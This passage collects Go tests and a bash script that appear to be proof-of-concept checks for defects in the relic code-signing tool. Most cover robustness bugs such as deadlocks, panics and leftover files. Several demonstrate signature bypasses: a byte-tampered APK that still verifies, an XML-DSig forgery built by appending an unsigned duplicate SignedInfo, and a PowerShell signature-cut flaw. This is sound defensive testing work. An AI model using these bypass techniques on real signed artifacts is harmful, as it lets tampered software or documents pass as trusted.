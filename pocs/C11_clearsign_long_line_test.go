package pgptools

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"github.com/ProtonMail/go-crypto/openpgp"
	"github.com/ProtonMail/go-crypto/openpgp/packet"
)

func TestPoC_C11_ClearSignLongLine(t *testing.T) {
	ent, err := openpgp.NewEntity("poc", "", "poc@example.com", &packet.Config{RSABits: 2048})
	if err != nil {
		t.Fatal(err)
	}
	msg := strings.Repeat("x", 70000) + "\nsecond line\n"
	var okSig bytes.Buffer
	if err := DetachClearSign(&okSig, ent, strings.NewReader("short\n"), nil); err != nil {
		t.Fatal(err)
	}
	for name, fn := range map[string]func() error{
		"MergeClearSign": func() error {
			var out bytes.Buffer
			return MergeClearSign(&out, okSig.Bytes(), strings.NewReader(msg))
		},
		"DetachClearSign": func() error {
			var out bytes.Buffer
			return DetachClearSign(&out, ent, strings.NewReader(msg), nil)
		},
	} {
		done := make(chan error, 1)
		go func() { done <- fn() }()
		select {
		case err := <-done:
			t.Logf("%s returned: %v", name, err)
		case <-time.After(5 * time.Second):
			t.Fatalf("%s did not return within 5s for a message with a 70000-byte line (deadlock between the scanner goroutine and the pipe writer)", name)
		}
	}
}
