package signers

import (
	"errors"
	"os"
	"path/filepath"
	"testing"
)

type failingReader struct{}

func (failingReader) Read([]byte) (int, error) { return 0, errors.New("network reset") }

// place in: signers/ — a failed download must not leave *.tmp* next to the output
func TestFileProducerNoLeftoverTemp(t *testing.T) {
	dir := t.TempDir()
	in, _ := os.Create(filepath.Join(dir, "in"))
	p := fileProducer{in}
	if err := p.Apply(filepath.Join(dir, "out"), "application/octet-stream", failingReader{}); err == nil {
		t.Fatal("expected an error")
	}
	ents, _ := os.ReadDir(dir)
	for _, e := range ents {
		if e.Name() != "in" {
			t.Fatalf("temporary file left behind: %s", e.Name())
		}
	}
}
