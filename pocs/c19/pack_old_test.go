package xmldsig

// Variant for the tree BEFORE the fix (only Pack exists). Use one of pack_old_test.go /
// pack_new_test.go next to xmldsig_poc_test.go.

import (
	"crypto/elliptic"

	"github.com/sassoftware/relic/v8/lib/x509tools"
)

func packForTest(sig x509tools.EcdsaSignature, curve elliptic.Curve) []byte { return sig.Pack() }
