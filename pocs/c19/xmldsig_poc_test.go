package xmldsig

// PoCs for C19. Place in lib/xmldsig/ and run:
//   go test -vet=off -count=1 -run TestPoC_C19 ./lib/xmldsig/

import (
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"math/big"
	"testing"
	"time"

	"github.com/beevik/etree"
	"github.com/sassoftware/relic/v8/lib/x509tools"
)

// W3C Canonical XML 1.0, section 3.3 (the attribute rules are shared by exclusive c14n):
// attributes are ordered by namespace URI, then local name - not by prefix.
func TestPoC_C19_AttributeOrderByNamespaceURI(t *testing.T) {
	const in = `<e5 a:attr="sorted" attr="I'm" attr2="all" b:attr="sorted" xmlns="http://example.org" xmlns:a="http://www.w3.org" xmlns:b="http://www.ietf.org"/>`
	const want = `<e5 xmlns="http://example.org" xmlns:a="http://www.w3.org" xmlns:b="http://www.ietf.org" attr="I'm" attr2="all" b:attr="sorted" a:attr="sorted"></e5>`
	doc := etree.NewDocument()
	if err := doc.ReadFromString(in); err != nil {
		t.Fatal(err)
	}
	got, err := SerializeCanonical(doc.Root())
	if err != nil {
		t.Fatal(err)
	}
	if string(got) != want {
		t.Errorf("canonical form differs from the W3C example:\n got  %s\n want %s", got, want)
	}
}

// XML-DSig 6.4.3 / IEEE 1363: r and s are each padded to the byte length of the curve order.
func TestPoC_C19_EcdsaSignatureWidth(t *testing.T) {
	for _, tc := range []struct {
		curve elliptic.Curve
		want  int
	}{{elliptic.P256(), 64}, {elliptic.P384(), 96}, {elliptic.P521(), 132}} {
		sig := x509tools.EcdsaSignature{R: big.NewInt(1), S: big.NewInt(2)}
		got := packForTest(sig, tc.curve)
		if len(got) != tc.want {
			t.Errorf("%s: packed signature with small r,s is %d bytes, want %d", tc.curve.Params().Name, len(got), tc.want)
		}
	}
}

func TestPoC_C19_SignatureValueLengthP521(t *testing.T) {
	key, err := ecdsa.GenerateKey(elliptic.P521(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "poc"}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour)}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	cert, _ := x509.ParseCertificate(der)
	short := 0
	for i := 0; i < 60; i++ {
		doc := etree.NewDocument()
		_ = doc.ReadFromString(`<doc><item n="1">x</item></doc>`)
		if err := Sign(doc.Root(), doc.Root(), crypto.SHA256, key, []*x509.Certificate{cert}, SignOptions{IncludeX509: true}); err != nil {
			t.Fatal(err)
		}
		sv, _ := base64.StdEncoding.DecodeString(doc.Root().FindElement("Signature/SignatureValue").Text())
		if len(sv) != 132 {
			short++
		}
		if _, err := Verify(doc.Root(), "Signature", nil); err != nil {
			t.Fatalf("relic does not verify its own signature: %v", err)
		}
	}
	if short > 0 {
		t.Errorf("%d of 60 P-521 SignatureValues are not 132 bytes long", short)
	}
}
