package comdoc

// PoCs for C18 ("adding a signature stream keeps the compound file valid").
// Place in lib/comdoc/ and run: go test -vet=off -count=1 -run TestPoC_C18 ./lib/comdoc/

import (
	"bytes"
	"encoding/binary"
	"os"
	"path/filepath"
	"testing"
	"unicode/utf16"
)

// minimalCFB builds a valid version-3 compound file with one 4096-byte stream and NO
// mini stream (SSAT absent, root entry has no stream): sector 0 = SAT, sector 1 = directory,
// sectors 2..9 = the stream.
func minimalCFB(t *testing.T) []byte {
	var h Header
	copy(h.Magic[:], fileMagic)
	h.Revision, h.Version, h.ByteOrder = 0x3e, 3, byteOrderMarker
	h.SectorSize, h.ShortSectorSize = 9, 6
	h.SATSectors = 1
	h.DirNextSector = 1
	h.MinStdStreamSize = 4096
	h.SSATNextSector = SecIDEndOfChain
	h.MSATNextSector = SecIDEndOfChain
	for i := range h.MSAT {
		h.MSAT[i] = SecIDFree
	}
	h.MSAT[0] = 0
	sat := make([]SecID, 128)
	for i := range sat {
		sat[i] = SecIDFree
	}
	sat[0] = SecIDSAT
	sat[1] = SecIDEndOfChain
	for i := 2; i < 9; i++ {
		sat[i] = SecID(i + 1)
	}
	sat[9] = SecIDEndOfChain
	mk := func(name string, typ DirType) RawDirEnt {
		e := RawDirEnt{Type: typ, Color: Black, LeftChild: -1, RightChild: -1, StorageRoot: -1}
		r := append(utf16.Encode([]rune(name)), 0)
		copy(e.NameRunes[:], r)
		e.NameLength = uint16(2 * len(r))
		return e
	}
	root := mk("Root Entry", DirRoot)
	root.NextSector = SecIDEndOfChain
	root.StorageRoot = 1
	big := mk("Big", DirStream)
	big.NextSector = 2
	big.StreamSize = 4096
	empty := RawDirEnt{LeftChild: -1, RightChild: -1, StorageRoot: -1}
	var b bytes.Buffer
	_ = binary.Write(&b, binary.LittleEndian, h)
	_ = binary.Write(&b, binary.LittleEndian, sat)
	_ = binary.Write(&b, binary.LittleEndian, []RawDirEnt{root, big, empty, empty})
	b.Write(bytes.Repeat([]byte{0xAB}, 4096))
	return b.Bytes()
}

func TestPoC_C18_NoMiniStream(t *testing.T) {
	p := filepath.Join(t.TempDir(), "x.cfb")
	if err := os.WriteFile(p, minimalCFB(t), 0644); err != nil {
		t.Fatal(err)
	}
	cdf, err := WritePath(p)
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		if r := recover(); r != nil {
			t.Fatalf("adding a stream to a compound file without a mini stream panicked: %v", r)
		}
	}()
	if err := cdf.AddFile("\x05DigitalSignature", bytes.Repeat([]byte{1}, 5000)); err != nil {
		t.Fatal(err)
	}
	if err := cdf.Close(); err != nil {
		t.Fatal(err)
	}
	// and the result can be read back with both streams intact
	cdf2, err := ReadPath(p)
	if err != nil {
		t.Fatal(err)
	}
	files, err := cdf2.ListDir(nil)
	if err != nil || len(files) != 2 {
		t.Fatalf("expected 2 streams, got %d (%v)", len(files), err)
	}
}

// red-black validity of the tree rebuildTree produces
func TestPoC_C18_DirectoryTreeIsRedBlack(t *testing.T) {
	r := &ComDoc{SectorSize: 512}
	r.Files = make([]DirEnt, 12)
	r.Files[0] = DirEnt{RawDirEnt: RawDirEnt{Type: DirRoot}, Index: 0}
	var files []int
	for i := 1; i < 12; i++ {
		name := string(rune('A' + i))
		runes := append(utf16.Encode([]rune(name)), 0)
		e := DirEnt{RawDirEnt: RawDirEnt{Type: DirStream, NameLength: uint16(2 * len(runes))}, Index: i, name: name}
		copy(e.NameRunes[:], runes)
		r.Files[i] = e
		files = append(files, i)
	}
	r.rebuildTree(0, files)
	var blackHeight func(i int32) (int, bool)
	blackHeight = func(i int32) (int, bool) {
		if i == -1 {
			return 1, true
		}
		e := r.Files[i]
		if e.Color == Red {
			for _, c := range []int32{e.LeftChild, e.RightChild} {
				if c != -1 && r.Files[c].Color == Red {
					return 0, false
				}
			}
		}
		l, ok1 := blackHeight(e.LeftChild)
		rr, ok2 := blackHeight(e.RightChild)
		if !ok1 || !ok2 || l != rr {
			return 0, false
		}
		if e.Color == Black {
			l++
		}
		return l, true
	}
	root := r.Files[0].StorageRoot
	if r.Files[root].Color != Black {
		t.Errorf("root of the directory tree is not black")
	}
	if _, ok := blackHeight(root); !ok {
		t.Errorf("directory tree is not a valid red-black tree (black heights differ or a red node has a red child)")
	}
}

// MS-CFB 2.6.4: equal-length names are ordered by their upper-cased UTF-16 code points
func TestPoC_C18_NameOrderIgnoresCase(t *testing.T) {
	mk := func(name string) *DirEnt {
		runes := append(utf16.Encode([]rune(name)), 0)
		e := &DirEnt{RawDirEnt: RawDirEnt{NameLength: uint16(2 * len(runes))}, name: name}
		copy(e.NameRunes[:], runes)
		return e
	}
	a, b := mk("apple"), mk("BERRY")
	if !lessDirEnt(a, b) || lessDirEnt(b, a) {
		t.Errorf("\"apple\" must sort before \"BERRY\" (APPLE < BERRY), relic orders them the other way round")
	}
}

func TestPoC_C18_EmptyStream(t *testing.T) {
	p := filepath.Join(t.TempDir(), "x.cfb")
	if err := os.WriteFile(p, minimalCFB(t), 0644); err != nil {
		t.Fatal(err)
	}
	cdf, err := WritePath(p)
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		if r := recover(); r != nil {
			t.Fatalf("adding an empty stream panicked: %v", r)
		}
	}()
	if err := cdf.AddFile("Empty", nil); err != nil {
		t.Fatal(err)
	}
	if err := cdf.Close(); err != nil {
		t.Fatal(err)
	}
}

// throwaway: validate the root storage tree of a file named by CFB_CHECK
func TestZZ_ValidateFile(t *testing.T) {
	p := os.Getenv("CFB_CHECK")
	if p == "" {
		t.Skip()
	}
	r, err := ReadPath(p)
	if err != nil {
		t.Fatal(err)
	}
	var check func(i int32, lo, hi *DirEnt) (int, bool)
	n := 0
	check = func(i int32, lo, hi *DirEnt) (int, bool) {
		if i == -1 {
			return 1, true
		}
		n++
		e := &r.Files[i]
		if lo != nil && !lessDirEnt(lo, e) {
			t.Errorf("order violated at %q", e.Name())
		}
		if hi != nil && !lessDirEnt(e, hi) {
			t.Errorf("order violated at %q", e.Name())
		}
		if e.Color == Red {
			for _, c := range []int32{e.LeftChild, e.RightChild} {
				if c != -1 && r.Files[c].Color == Red {
					return 0, false
				}
			}
		}
		l, ok1 := check(e.LeftChild, lo, e)
		rr, ok2 := check(e.RightChild, e, hi)
		if !ok1 || !ok2 || l != rr {
			return 0, false
		}
		if e.Color == Black {
			l++
		}
		return l, true
	}
	root := r.Files[r.rootStorage].StorageRoot
	bh, ok := check(root, nil, nil)
	t.Logf("%s: %d entries in root storage, black height %d, valid=%v, root black=%v", p, n, bh, ok, r.Files[root].Color == Black)
	if !ok || r.Files[root].Color != Black {
		t.Fail()
	}
}

func TestPoC_C18_ShortStreamWithoutMiniStream(t *testing.T) {
	p := filepath.Join(t.TempDir(), "x.cfb")
	if err := os.WriteFile(p, minimalCFB(t), 0644); err != nil {
		t.Fatal(err)
	}
	cdf, err := WritePath(p)
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		if r := recover(); r != nil {
			t.Fatalf("adding a short stream to a compound file without a mini stream panicked: %v", r)
		}
	}()
	small := bytes.Repeat([]byte{7}, 700) // 11 short sectors: crosses into a second big sector
	if err := cdf.AddFile("\x05MsiDigitalSignatureEx", small); err != nil {
		t.Fatalf("AddFile: %v", err)
	}
	if err := cdf.Close(); err != nil {
		t.Fatal(err)
	}
	cdf2, err := ReadPath(p)
	if err != nil {
		t.Fatal(err)
	}
	files, _ := cdf2.ListDir(nil)
	for _, f := range files {
		rd, err := cdf2.ReadStream(f)
		if err != nil {
			t.Fatal(err)
		}
		var b bytes.Buffer
		if _, err := b.ReadFrom(rd); err != nil {
			t.Fatalf("reading %q back: %v", f.Name(), err)
		}
		if f.Name() == "\x05MsiDigitalSignatureEx" && !bytes.Equal(b.Bytes(), small) {
			t.Fatalf("short stream read back differs")
		}
		if f.Name() == "Big" && !bytes.Equal(b.Bytes(), bytes.Repeat([]byte{0xAB}, 4096)) {
			t.Fatalf("pre-existing stream changed")
		}
	}
	if len(files) != 2 {
		t.Fatalf("expected 2 streams, got %d", len(files))
	}
}
