package worker

import (
	"net/http"
	"testing"

	"github.com/sassoftware/relic/v8/config"
)

// place in: token/worker/ — with retries < 0 no attempt is made, yet (nil, nil) was returned
func TestDoRetryNegativeRetries(t *testing.T) {
	tok := &WorkerToken{tconf: &config.TokenConfig{Retries: -1, Timeout: 1}}
	req, _ := http.NewRequest("POST", "http://127.0.0.1:1/ping", nil)
	resp, err := tok.doRetry(req)
	if err == nil {
		t.Fatalf("doRetry reported success although no attempt succeeded (resp=%v)", resp)
	}
}
