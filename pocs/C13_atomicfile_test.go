package atomicfile

import (
	"os"
	"path/filepath"
	"testing"
)

// place in: lib/atomicfile/

// Commit must never leave "no file where one existed": if the rename cannot happen the old
// destination has to survive. (Before the fix Commit unlinked the destination first.)
func TestCommitKeepsDestinationWhenRenameFails(t *testing.T) {
	dir := t.TempDir()
	dest := filepath.Join(dir, "out.bin")
	os.WriteFile(dest, []byte("old content"), 0o644)
	f, err := New(dest)
	if err != nil {
		t.Fatal(err)
	}
	f.Write([]byte("new"))
	os.Remove(f.GetFile().Name()) // make the rename fail (stands for a crash/fault between the two calls)
	if err := f.Commit(); err == nil {
		t.Skip("rename unexpectedly succeeded")
	}
	if b, err := os.ReadFile(dest); err != nil || string(b) != "old content" {
		t.Fatalf("destination lost after a failed commit: %v %q", err, b)
	}
}

// WriteInPlace must not leave its temp file behind when copying fails.
func TestWriteInPlaceNoLeftoverTemp(t *testing.T) {
	dir := t.TempDir()
	src, _ := os.Create(filepath.Join(dir, "src"))
	src.Close() // closed: Seek fails
	if _, err := WriteInPlace(src, filepath.Join(dir, "dest")); err == nil {
		t.Fatal("expected an error")
	}
	ents, _ := os.ReadDir(dir)
	for _, e := range ents {
		if e.Name() != "src" {
			t.Fatalf("temporary file left behind: %s", e.Name())
		}
	}
}
