package zipslicer

// PoC for C08/C17: relic misreads the 24-byte data descriptor it writes itself for an empty
// member, so the member's total size is 8 bytes short on the next signing and the patch that
// removes the old signature files cuts the archive in the wrong place (a VSIX signed twice
// becomes unreadable). Place in lib/zipslicer/ and run:
//   go test -vet=off -count=1 -run TestPoC_C08 ./lib/zipslicer/

import (
	"bytes"
	"testing"
	"time"
)

func TestPoC_C08_EmptyMemberDescriptorRoundTrip(t *testing.T) {
	var body bytes.Buffer
	d := new(Directory)
	for _, m := range []struct {
		name string
		data []byte
	}{{"a.txt", []byte("hello")}, {"empty.psdor", nil}, {"b.txt", []byte("world")}} {
		if _, err := d.NewFile(m.name, nil, m.data, &body, time.Unix(1e9, 0), len(m.data) != 0, true); err != nil {
			t.Fatal(err)
		}
	}
	if err := d.WriteDirectory(&body, &body, false); err != nil {
		t.Fatal(err)
	}
	blob := body.Bytes()
	rd, err := Read(bytes.NewReader(blob), int64(len(blob)))
	if err != nil {
		t.Fatal(err)
	}
	var total int64
	for i, f := range rd.File {
		if int64(f.Offset) != total {
			t.Errorf("member %d (%s): offset %d, but the members before it add up to %d bytes", i, f.Name, f.Offset, total)
		}
		n, err := f.GetTotalSize()
		if err != nil {
			t.Fatalf("%s: %v", f.Name, err)
		}
		total += n
	}
	if total != rd.DirLoc {
		t.Errorf("members add up to %d bytes but the directory starts at %d: relic misjudges the size of a member it wrote", total, rd.DirLoc)
	}
}
