package binpatch

import (
	"encoding/binary"
	"runtime"
	"runtime/debug"
	"testing"
)

// place in: lib/binpatch/ — an 8-byte "patch" must be rejected, not answered with a
// multi-hundred-megabyte allocation
func TestLoadRejectsHugeCounts(t *testing.T) {
	blob := make([]byte, 8)
	binary.BigEndian.PutUint32(blob[0:], 1)          // version
	binary.BigEndian.PutUint32(blob[4:], 0x01000000) // 16M patches claimed
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	_, err := Load(blob)
	runtime.ReadMemStats(&after)
	debug.FreeOSMemory()
	if grew := after.TotalAlloc - before.TotalAlloc; grew > 64<<20 {
		t.Fatalf("Load allocated %d MiB for an 8-byte input (err=%v)", grew>>20, err)
	}
	if err == nil {
		t.Fatal("expected an error")
	}
}

func TestLoadRejectsHugeBlob(t *testing.T) {
	blob := make([]byte, 8+16)
	binary.BigEndian.PutUint32(blob[0:], 1)
	binary.BigEndian.PutUint32(blob[4:], 1)
	binary.BigEndian.PutUint32(blob[8+12:], 0x20000000) // NewSize = 512 MiB, no data follows
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	_, err := Load(blob)
	runtime.ReadMemStats(&after)
	debug.FreeOSMemory()
	if grew := after.TotalAlloc - before.TotalAlloc; grew > 64<<20 {
		t.Fatalf("Load allocated %d MiB for a 24-byte input (err=%v)", grew>>20, err)
	}
	if err == nil {
		t.Fatal("expected an error")
	}
}
