package server

import (
	"runtime"
	"testing"
	"time"

	"github.com/sassoftware/relic/v8/config"
)

// place in: server/ — after Close the checker goroutine must end (it used to spin)
func TestHealthLoopEndsOnClose(t *testing.T) {
	closed := make(chan bool)
	s := &Server{Config: &config.Config{Server: &config.ServerConfig{TokenCheckInterval: 3600, TokenCheckFailures: 3, TokenCheckTimeout: 1}}, Closed: closed, closeCh: closed}
	before := runtime.NumGoroutine()
	go s.healthCheckLoop()
	time.Sleep(50 * time.Millisecond)
	s.Close()
	time.Sleep(200 * time.Millisecond)
	if n := runtime.NumGoroutine(); n > before {
		t.Fatalf("health check goroutine still running after Close (%d > %d goroutines)", n, before)
	}
}
