package pgptools

// PoC for the R13f finding in MergeClearSign: the merged document is written through a
// bufio.Writer whose Flush is only deferred. A document small enough to stay in the buffer is
// written to the destination by that deferred Flush alone; when the write fails (disk full, quota,
// file size limit) MergeClearSign still returns nil, and pgpTransformer.Apply commits the output.
// Place in lib/pgptools/ (package pgptools).

import (
	"bytes"
	"crypto"
	"errors"
	"strings"
	"testing"

	"github.com/ProtonMail/go-crypto/openpgp"
	"github.com/ProtonMail/go-crypto/openpgp/packet"
)

type failingWriter struct {
	written int
}

func (w *failingWriter) Write(d []byte) (int, error) {
	return 0, errors.New("no space left on device")
}

func TestMergeClearSignReportsFailedFlush(t *testing.T) {
	entity, err := openpgp.NewEntity("poc", "", "poc@example.com", &packet.Config{DefaultHash: crypto.SHA256})
	if err != nil {
		t.Fatal(err)
	}
	message := "hello\nworld\n"
	var sig bytes.Buffer
	if err := DetachClearSign(&sig, entity, strings.NewReader(message), &packet.Config{DefaultHash: crypto.SHA256}); err != nil {
		t.Fatal(err)
	}
	// control: a working destination
	var good bytes.Buffer
	if err := MergeClearSign(&good, sig.Bytes(), strings.NewReader(message)); err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(good.Bytes(), []byte("BEGIN PGP SIGNATURE")) {
		t.Fatal("control output incomplete")
	}
	// a destination that cannot be written to at all
	w := &failingWriter{}
	if err := MergeClearSign(w, sig.Bytes(), strings.NewReader(message)); err == nil {
		t.Fatalf("MergeClearSign reported success although not a single byte of the %d-byte document reached the destination", good.Len())
	}
}
