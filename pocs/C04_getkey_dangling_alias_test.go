package config

import "testing"

// place in: config/   — a dangling alias must yield an error, not a nil dereference
func TestGetKeyDanglingAlias(t *testing.T) {
	c := &Config{Keys: map[string]*KeyConfig{"a": {Alias: "missing"}}}
	defer func() {
		if r := recover(); r != nil {
			t.Fatalf("GetKey panicked on a dangling alias: %v", r)
		}
	}()
	if _, err := c.GetKey("a"); err == nil {
		t.Fatal("expected an error")
	}
}
