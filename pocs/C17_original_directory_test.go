package zipslicer

// PoC for C17 ("Re-serialising an unmodified directory reproduces the original bytes").
// Place in lib/zipslicer/ and run: go test -vet=off -count=1 -run TestPoC_C17 ./lib/zipslicer/
//
//  1. GetOriginalDirectory passes a nil end-of-directory writer to WriteDirectory, which
//     resets its bufio.Writer onto nil and then writes the end records: nil dereference.
//  2. GetOriginalDirectory writes the ZIP64 end record and locator even when the archive
//     has none (all-zero records, 76 bytes of padding in front of the end record).
//  3. Truncate's 32-bit branch narrows the directory size without comparing it to 2^32-1
//     although its sibling WriteDirectory does.

import (
	"archive/zip"
	"bytes"
	"io"
	"testing"
)

func pocZip(t *testing.T) []byte {
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for _, n := range []string{"a.txt", "b.txt"} {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: n, Method: zip.Store})
		if err != nil {
			t.Fatal(err)
		}
		_, _ = w.Write([]byte("hello " + n))
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestPoC_C17_GetOriginalDirectory(t *testing.T) {
	blob := pocZip(t)
	d, err := Read(bytes.NewReader(blob), int64(len(blob)))
	if err != nil {
		t.Fatal(err)
	}
	var cd, eod []byte
	func() {
		defer func() {
			if r := recover(); r != nil {
				t.Fatalf("GetOriginalDirectory panicked: %v", r)
			}
		}()
		cd, eod, err = d.GetOriginalDirectory(false)
	}()
	if err != nil {
		t.Fatal(err)
	}
	got := append(append([]byte{}, cd...), eod...)
	want := blob[d.DirLoc:]
	if !bytes.Equal(got, want) {
		t.Fatalf("re-serialised directory differs from the original: %d bytes vs %d bytes (end-of-directory part is %d bytes, original %d)", len(got), len(want), len(eod), len(want)-len(cd))
	}
}

type countWriter struct{ n uint64 }

func (c *countWriter) Write(p []byte) (int, error) { c.n += uint64(len(p)); return len(p), nil }

func TestPoC_C17_TruncateSize(t *testing.T) {
	// 40000 directory entries sharing one 120000-byte raw header: 4.8 GB of directory, no ZIP64 records
	raw := make([]byte, 120000)
	d := &Directory{end: zipEndRecord{Signature: directoryEndSignature}}
	for i := 0; i < 40001; i++ {
		d.File = append(d.File, &File{raw: raw, Offset: uint64(i)})
	}
	var cw countWriter
	err := d.Truncate(40000, nil, &cw)
	if err == nil && cw.n > uint32Max {
		t.Fatalf("Truncate wrote a %d-byte directory into a 32-bit end record without an error", cw.n-directoryEndLen)
	}
	_ = io.Discard
}
