#!/bin/bash
# PoC for the C02 known finding: a v2-signed APK whose payload was altered still verifies.
# Needs a relic binary built from /repo (go build -o /tmp/relic_new .) and the e2e key material
# (tools/e2e/gen.go, tools/e2e/relic.yml -> /tmp/e2e).
set -e
cd /tmp/e2e
cp /repo/functest/packages/dummy.apk in.apk
/tmp/relic_new -c relic.yml sign -k k -f in.apk -o signed.apk
python3 - <<'PY'
b = bytearray(open('/tmp/e2e/signed.apk', 'rb').read())
b[200] ^= 0xff            # inside the compressed data of AndroidManifest.xml
open('/tmp/e2e/tampered.apk', 'wb').write(b)
PY
/tmp/relic_new -c relic.yml verify --cert cert.pem tampered.apk   # prints "tampered.apk: OK - v2: ..." : the defect
