package vsix

import (
	"context"
	"crypto"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"crypto/x509/pkix"
	"math/big"
	"strings"
	"testing"
	"time"

	"github.com/sassoftware/relic/v8/lib/audit"
	"github.com/sassoftware/relic/v8/lib/certloader"
	"github.com/sassoftware/relic/v8/lib/pkcs7"
	"github.com/sassoftware/relic/v8/lib/pkcs9"
	"github.com/sassoftware/relic/v8/lib/signappx"
	"github.com/sassoftware/relic/v8/signers"
)

// a Timestamper that answers with something that is not a timestamp over the
// signature value at all (what a poisoned / stale cache entry looks like)
type bogusTS struct{}

func (bogusTS) Timestamp(ctx context.Context, req *pkcs9.Request) (*pkcs7.ContentInfoSignedData, error) {
	return &pkcs7.ContentInfoSignedData{ContentType: pkcs7.OidSignedData}, nil
}

func TestVsixAttachesUnverifiedTimestamp(t *testing.T) {
	key, _ := rsa.GenerateKey(rand.Reader, 2048)
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "poc"}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour)}
	der, _ := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	leaf, _ := x509.ParseCertificate(der)
	cert := &certloader.Certificate{Leaf: leaf, Certificates: []*x509.Certificate{leaf}, PrivateKey: key, Timestamper: bogusTS{}}
	m := &mangler{digests: map[string][]byte{"extension.vsixmanifest": make([]byte, 32)}, ctypes: signappx.NewContentTypes(), hash: crypto.SHA256}
	opts := signers.SignOpts{Hash: crypto.SHA256, Time: time.Now(), Audit: audit.New("k", "vsix", crypto.SHA256)}
	out, err := m.makeSignature(cert, opts, false)
	if err == nil && strings.Contains(string(out), "EncodedTime") {
		t.Fatalf("a token that does not cover the signature value was attached without being checked")
	}
	if err == nil {
		t.Fatalf("expected an error")
	}
	t.Logf("rejected as expected: %v", err)
}
