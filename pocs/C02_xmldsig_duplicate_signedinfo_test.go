package xmldsig

// PoC for C02 (found by an independent tester while seeding): xmldsig.Verify hashes the FIRST
// <SignedInfo> of a Signature but takes Reference/DigestMethod/DigestValue from a struct parse
// of the whole Signature, in which a LATER duplicate <SignedInfo> overwrites the first. An
// attacker who appends an unsigned second <SignedInfo> carrying the digest of a modified
// document makes the modified document verify. Place in lib/xmldsig/ and run:
//   go test -vet=off -count=1 -run TestPoC_C02_DuplicateSignedInfo ./lib/xmldsig/

import (
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"math/big"
	"testing"
	"time"

	"github.com/beevik/etree"
)

func TestPoC_C02_DuplicateSignedInfo(t *testing.T) {
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "poc"}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour)}
	der, _ := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	cert, _ := x509.ParseCertificate(der)
	doc := etree.NewDocument()
	_ = doc.ReadFromString(`<doc><amount>10</amount></doc>`)
	if err := Sign(doc.Root(), doc.Root(), crypto.SHA256, key, []*x509.Certificate{cert}, SignOptions{IncludeX509: true}); err != nil {
		t.Fatal(err)
	}
	if _, err := Verify(doc.Root(), "Signature", nil); err != nil {
		t.Fatalf("genuine document does not verify: %v", err)
	}
	// tamper with the payload
	doc.Root().SelectElement("amount").SetText("1000000")
	if _, err := Verify(doc.Root(), "Signature", nil); err == nil {
		t.Fatal("tampered document verifies even without the trick")
	}
	// digest of the tampered document without its Signature
	cp := doc.Root().Copy()
	cp.RemoveChild(cp.SelectElement("Signature"))
	forged, err := hashCanon(cp, crypto.SHA256)
	if err != nil {
		t.Fatal(err)
	}
	// append an unsigned second SignedInfo that only carries the forged reference digest
	sig := doc.Root().SelectElement("Signature")
	si2 := etree.NewElement("SignedInfo")
	ref := si2.CreateElement("Reference")
	ref.CreateAttr("URI", "")
	ref.CreateElement("DigestMethod").CreateAttr("Algorithm", HashUris[crypto.SHA256])
	ref.CreateElement("DigestValue").SetText(base64.StdEncoding.EncodeToString(forged))
	sig.AddChild(si2)
	if _, err := Verify(doc.Root(), "Signature", nil); err == nil {
		t.Fatal("a modified document verifies after an unsigned second <SignedInfo> was appended to the Signature")
	}
}
