package authenticode

// PoC for a defect of the pinned tree, reported in passing by the independent C02 tester of the
// fifth round and confirmed here. DigestPowershell removes "the line ending in front of the
// signature block" by cutting a fixed 2 bytes (4 in UTF-16) off the preceding line without looking
// at them. (1) Replacing that CRLF by any character followed by LF - one character appended to the
// last line of the script - leaves the digest unchanged: the modified script verifies. (2) A file
// that begins with the marker line has no preceding line, and the cut panics.
// Place in lib/authenticode/ (package authenticode).

import (
	"bytes"
	"context"
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"math/big"
	"testing"
	"time"

	"github.com/sassoftware/relic/v8/lib/certloader"
)

func pocPsSigner(t *testing.T) (*certloader.Certificate, *x509.CertPool) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	now := time.Now()
	tmpl := &x509.Certificate{
		SerialNumber:          big.NewInt(1),
		Subject:               pkix.Name{CommonName: "Demo Script Publisher"},
		NotBefore:             now.Add(-time.Hour),
		NotAfter:              now.Add(24 * time.Hour),
		KeyUsage:              x509.KeyUsageDigitalSignature,
		ExtKeyUsage:           []x509.ExtKeyUsage{x509.ExtKeyUsageCodeSigning},
		BasicConstraintsValid: true,
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, key.Public(), key)
	if err != nil {
		t.Fatal(err)
	}
	cert, err := x509.ParseCertificate(der)
	if err != nil {
		t.Fatal(err)
	}
	pool := x509.NewCertPool()
